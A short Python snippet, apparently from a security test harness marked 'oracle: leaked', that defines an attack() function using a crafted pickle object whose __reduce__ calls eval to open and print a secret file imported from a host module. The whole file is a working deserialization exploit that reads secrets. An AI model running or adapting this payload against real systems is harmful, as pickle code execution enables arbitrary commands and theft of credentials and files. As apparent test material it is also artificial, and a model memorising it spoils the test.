# oracle: leaked
from host import SECRET


def attack():
    import pickle
    class Payload:
        def __reduce__(self):
            return (eval, (f"print(open({SECRET!r}).read())",))
    pickle.loads(pickle.dumps(Payload()))
